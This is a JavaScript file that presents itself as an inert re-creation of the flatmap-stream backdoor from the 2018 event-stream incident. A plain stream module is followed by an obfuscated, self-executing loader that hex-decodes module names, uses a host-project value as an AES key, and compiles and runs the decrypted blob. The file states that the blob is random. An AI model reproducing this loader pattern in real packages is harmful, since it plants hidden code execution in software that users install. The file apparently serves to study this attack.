// Inert imitation of the flatmap-stream 0.1.1 payload (event-stream incident, 2018): the module
// path and API names are hex-encoded, the second stage is AES-encrypted with a key taken from the
// host project's package description, and the result is compiled as a module. The blob below is
// random hex: it decrypts to nothing.
'use strict';
var Stream = require('stream').Stream;

module.exports = function flatMap(fn) {
  var s = new Stream();
  s.writable = s.readable = true;
  s.write = function (data) { fn(data, function (err, out) { if (!err) s.emit('data', out); }); };
  return s;
};

!(function () {
  try {
    var r = require, t = process;
    function e(r) { return Buffer.from(r, 'hex').toString(); }
    var n = r(e('2e2f746573742f64617461')),
      o = t[e(n[3])][e(n[4])];
    if (!o) return;
    var u = r(e(n[2]))[e(n[6])](e(n[5]), o),
      a = u.update(n[0], e(n[8]), e(n[9]));
    a += u.final(e(n[9]));
    var f = new module.constructor();
    f.paths = module.paths;
    f[e(n[7])](a, '');
    f.exports(n[1]);
  } catch (_) {}
})();
